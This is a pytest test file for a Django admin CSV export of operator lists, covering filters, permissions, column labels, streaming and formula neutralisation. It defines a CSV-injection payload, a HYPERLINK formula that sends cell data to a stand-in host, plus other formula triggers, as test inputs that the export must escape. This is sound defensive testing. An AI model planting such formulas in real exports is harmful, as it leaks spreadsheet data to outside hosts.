"""CSV export of the operator lists — the queue, orders, accounts and the audit log
(postpay_portal/admin_export.py): the rows the list shows (its filters, search and defaults),
its columns under its labels with statuses as operator labels (R6, R14, R20), the list's view
permission, formula cells neutralised, and the rows streamed in chunks."""

import csv
import io
import re
import tracemalloc

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from accounts.models import Account
from manual_operations.services import manual_operation_approve, manual_operation_decline
from settings_app.services import postpay_settings_update
from subscriptions.services import order_place
from tests.factories import AccountFactory, ManagerFactory, StaffFactory

pytestmark = pytest.mark.django_db

LISTS = {
    "queue": ("manual_operations", "manualoperation"),
    "orders": ("subscriptions", "order"),
    "accounts": ("accounts", "account"),
    "audit": ("audit", "auditlogentry"),
}
TIME = re.compile(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def changelist(name):
    app, model = LISTS[name]
    return reverse(f"admin:{app}_{model}_changelist")


def export_url(name):
    app, model = LISTS[name]
    return reverse(f"admin:{app}_{model}_export")


def export(client, name, query=""):
    """The export's header and rows, read from the stream."""
    response = client.get(export_url(name) + query)
    assert response.status_code == 200, response
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    return header, rows


def column(header, rows, label):
    return [row[header.index(label)] for row in rows]


def page_headers(client, name, query=""):
    html = client.get(changelist(name) + query).content.decode()
    heads = re.findall(
        r'<th scope="col"[^>]*>\s*(?:<div class="sortoptions">.*?</div>\s*)?<div class="text">(.*?)</div>', html, re.S
    )
    return [text for text in (re.sub(r"<[^>]+>", "", head).strip() for head in heads) if text]


@pytest.fixture
def root_client(admin_client_for, superuser):
    return admin_client_for(superuser)


@pytest.fixture
def operations(manual_mode, held_operation_for, manager_max, django_capture_on_commit_callbacks):
    """Three operations: one open, one approved, one declined."""
    open_op = held_operation_for("Open Co", account_class="Enterprise", manager="max")
    approved = held_operation_for("Approved Co")
    declined = held_operation_for(FORMULA)
    with django_capture_on_commit_callbacks(execute=True):
        manual_operation_approve(actor=manager_max, operation_id=approved.pk)
    manual_operation_decline(actor=manager_max, operation_id=declined.pk, reason="credit_risk")
    return open_op, approved, declined


# --- the button ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", LISTS)
def test_each_list_page_has_an_export_button_carrying_its_filters(root_client, manual_mode, name):
    query = "?q=Acme"
    html = root_client.get(changelist(name) + query).content.decode()
    assert f'<a href="{export_url(name)}{query}" class="export_link">Export CSV</a>' in html


def test_the_queue_keeps_its_own_tools_beside_the_button(root_client, manual_mode):
    html = root_client.get(changelist("queue")).content.decode()
    assert "Queue report" in html and "Export CSV" in html


def test_the_accounts_list_keeps_its_import_beside_the_button(root_client):
    html = root_client.get(changelist("accounts")).content.decode()
    assert reverse("admin:accounts_account_import") in html and "Export CSV" in html


# --- permissions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", LISTS)
def test_staff_without_the_lists_view_permission_cannot_export_it(admin_client_for, manual_mode, name):
    app, model = LISTS[name]
    other = next(m for n, (a, m) in LISTS.items() if n != name)
    viewer = StaffFactory(username="viewer")
    viewer.user_permissions.add(Permission.objects.get(codename=f"view_{other}"))
    client = admin_client_for(viewer)
    assert client.get(changelist(name)).status_code == 403
    assert client.get(export_url(name)).status_code == 403
    viewer.user_permissions.add(Permission.objects.get(codename=f"view_{model}", content_type__app_label=app))
    assert client.get(changelist(name)).status_code == 200
    assert client.get(export_url(name)).status_code == 200


@pytest.mark.parametrize("name", LISTS)
def test_staff_without_any_permission_cannot_export(admin_client_for, bare_staff_bea, name):
    assert admin_client_for(bare_staff_bea).get(export_url(name)).status_code == 403


def test_a_filter_the_list_cannot_apply_is_answered_as_the_list_answers_it(root_client):
    response = root_client.get(export_url("orders") + "?created_at__gte=not-a-date")
    assert response.status_code == 302 and response["Location"] == changelist("orders") + "?e=1"


# --- the queue (R17) ------------------------------------------------------------------------------


def test_r17_the_queue_export_holds_what_the_page_shows_open_operations_by_default(root_client, operations):
    open_op, approved, declined = operations
    header, rows = export(root_client, "queue")
    assert header == page_headers(root_client, "queue")
    assert header == [
        "ID",
        "Description",
        "Operation",
        "Account",
        "Manager",
        "Account class",
        "Status",
        "Created at",
        "Age",
    ]
    assert rows == [
        [
            str(open_op.pk),
            open_op.description,
            "Allow an account has postpaid subscriptions",
            "Open Co",
            "max",
            "Enterprise",
            "Approval required",
            rows[0][7],
            "under a minute",
        ]
    ]
    assert TIME.fullmatch(rows[0][7])
    _, every = export(root_client, "queue", "?status=all")
    assert sorted(int(i) for i in column(header, every, "ID")) == sorted(op.pk for op in operations)
    _, decided = export(root_client, "queue", "?status=approved")
    assert column(header, decided, "Status") == ["Approved"]


def test_r17_the_queue_export_applies_the_search_and_neutralises_formulas(root_client, operations):
    header, rows = export(root_client, "queue", "?status=all&q=HYPERLINK")
    assert column(header, rows, "Account") == ["'" + FORMULA]
    assert column(header, rows, "Status") == ["Declined"]


# --- orders (R20) ---------------------------------------------------------------------------------


def test_r20_the_orders_export_applies_the_filters_and_search_with_labels(
    root_client, operations, prepaid_plan, customer_alice
):
    order_place(
        actor=customer_alice, account_id=customer_alice.account_id, plan_id=prepaid_plan.pk, period="commercial"
    )
    header, rows = export(root_client, "orders")
    # The page shows the period under the plan, the failure reason under the status and the
    # approver under the placer, to fit 1280 px; the file keeps each in its own column.
    page = page_headers(root_client, "orders")
    assert page == ["ID", "Type", "Account", "Plan", "Price", "Status", "Placed by", "Created at"]
    assert header == [
        "ID",
        "Type",
        "Account",
        "Plan",
        "Period",
        "Price",
        "Status",
        "Failure reason",
        "Created by",
        "Approved by",
        "Attempts",
        "Created at",
    ]
    assert sorted(column(header, rows, "Status")) == [
        "Completed",
        "Provisioning failed",
        "Waiting for approval",
        "Waiting for payment",
    ]
    header, rows = export(root_client, "orders", "?status__exact=waiting_for_payment")
    [row] = rows
    assert dict(zip(header, row, strict=True)) | {"ID": "", "Created at": ""} == {
        "ID": "",
        "Type": "New",
        "Account": "Alice Ltd",
        "Plan": "Starter",
        "Period": "Commercial",
        "Price": "9.90",
        "Status": "Waiting for payment",
        "Failure reason": "",
        "Created by": "alice",
        "Approved by": "",
        "Attempts": "0",
        "Created at": "",
    }
    assert TIME.fullmatch(row[header.index("Created at")])
    _, approved = export(root_client, "orders", "?q=Approved")
    assert column(header, approved, "Approved by") == ["max"]


def test_r20_the_orders_export_neutralises_formulas(root_client, operations):
    header, rows = export(root_client, "orders", "?q=HYPERLINK")
    assert column(header, rows, "Account") == ["'" + FORMULA]
    assert column(header, rows, "Failure reason") == ["postpay_declined"]


# --- accounts (R6, R26) ---------------------------------------------------------------------------


def test_r26_the_accounts_export_has_the_permission_column_only_in_mode_manually(root_client):
    AccountFactory(name="Plain Co", email="plain@example.com", account_class="Standard", preapproved=True)
    header, rows = export(root_client, "accounts")
    assert (
        header
        == page_headers(root_client, "accounts")
        == ["ID", "Name", "Email", "Account class", "Manager", "Created at"]
    )
    assert "Work permit for postpaid" not in "".join(header + sum(rows, []))
    postpay_settings_update(actor=None, postpaid_permission_mode="manual")
    header, rows = export(root_client, "accounts")
    assert header == page_headers(root_client, "accounts")
    assert column(header, rows, "Work permit for postpaid") == ["Approved"]


def test_r6_the_accounts_export_applies_filters_and_search(root_client, manual_mode, manager_max):
    AccountFactory(name="Acme", email="billing@acme.example", account_class="Enterprise", manager="max")
    AccountFactory(name="Bolt", account_class="Standard")
    AccountFactory(name="Acme Two", account_class="Standard")
    header, rows = export(root_client, "accounts", "?q=Acme")
    assert sorted(column(header, rows, "Name")) == ["Acme", "Acme Two"]
    standard = Account.objects.get(name="Bolt").account_class_id
    header, rows = export(root_client, "accounts", f"?q=Acme&account_class__id__exact={standard}")
    assert column(header, rows, "Name") == ["Acme Two"]
    header, rows = export(root_client, "accounts", "?postpay_permission=none&q=Acme&o=2")
    assert column(header, rows, "Name") == ["Acme", "Acme Two"]  # in the list's order
    assert column(header, rows, "Work permit for postpaid") == ["Verification not performed"] * 2
    assert column(header, rows, "Manager") == ["max", ""]


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"])
def test_the_accounts_export_neutralises_every_formula_trigger(root_client, name):
    account = Account.objects.get(pk=AccountFactory(name="Placeholder").pk)
    Account.objects.filter(pk=account.pk).update(name=name)  # the service refuses tab and CR in names
    header, rows = export(root_client, "accounts")
    assert column(header, rows, "Name") == ["'" + name]


def test_cells_that_only_contain_a_trigger_later_are_kept_as_they_are(root_client):
    AccountFactory(name="A=B+C-D@E", email="x-y@example.com")
    header, rows = export(root_client, "accounts")
    assert (column(header, rows, "Name"), column(header, rows, "Email")) == (["A=B+C-D@E"], ["x-y@example.com"])


# --- the audit log (R29) --------------------------------------------------------------------------


def test_r29_the_audit_export_applies_filters_and_search_with_status_labels(root_client, operations):
    header, rows = export(root_client, "audit", "?object_type__exact=manual_operation")
    assert header == page_headers(root_client, "audit")
    assert header == ["At", "Object", "Field", "From", "To", "Actor", "Reason"]
    open_op, approved, declined = operations
    assert sorted(column(header, rows, "Object")) == sorted(
        f"Operation #{op.pk}" for op in (open_op, approved, approved, declined, declined)
    )
    assert sorted(column(header, rows, "To")) == ["Approval required"] * 3 + ["Approved", "Declined"]
    header, rows = export(root_client, "audit", "?object_type__exact=account&field=postpay_permission&q=max")
    assert sorted(zip(column(header, rows, "From"), column(header, rows, "To"), strict=True)) == [
        ("Approval required", "Approved"),
        ("Approval required", "Declined"),
    ]
    assert all(TIME.fullmatch(at) for at in column(header, rows, "At"))


def test_r29_the_audit_export_neutralises_formulas(root_client):
    mallory = ManagerFactory(username="@mallory")  # "@" is allowed in usernames
    postpay_settings_update(actor=mallory, postpaid_permission_mode="manual", reason=FORMULA)
    header, rows = export(root_client, "audit", "?object_type__exact=postpay_settings")
    assert [(row[header.index("Actor")], row[header.index("Reason")]) for row in rows] == [("'@mallory", "'" + FORMULA)]
    assert column(header, rows, "To") == ["Manually"]


# --- streamed, in chunks --------------------------------------------------------------------------


TRACED_ROWS = 20_000


@pytest.mark.postgres
def test_100000_rows_are_exported_without_holding_them_in_memory(root_client):
    """An export of 100,000 entries streams: while its first 20,000 rows are written (the
    request included), memory peaks far below what holding those rows takes (a list of
    20,000 of these entries takes over 20 MiB), so loading the list at once, or keeping the
    rows written, breaks the bound. Rows are fetched by ``iterator(chunk_size=...)`` and written a
    few hundred at a time; the rest is then read to its end untraced, to keep the test fast."""
    total = 100_000
    with connection.cursor() as cursor:  # set-based test data: 100,000 model saves would take minutes
        cursor.execute(
            "INSERT INTO audit_auditlogentry (object_type, object_id, field, from_value, to_value, at, reason) "
            "SELECT 'order', g, 'status', 'provisioning', 'completed', now(), 'bulk entry ' || g || repeat('x', 60) "
            "FROM generate_series(1, %s) AS g",
            [total],
        )
    b"".join(root_client.get(export_url("audit") + "?q=warm-up").streaming_content)  # first-use imports, untraced
    rows = 0
    tracemalloc.start()
    try:
        pieces = iter(root_client.get(export_url("audit")).streaming_content)
        while rows <= TRACED_ROWS:
            rows += next(pieces).count(b"\r\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    rows += sum(piece.count(b"\r\n") for piece in pieces)
    assert rows == total + 1  # and the header
    assert peak < 6 * 1024 * 1024, f"peak {peak / 1024 / 1024:.1f} MiB while exporting {TRACED_ROWS} rows"
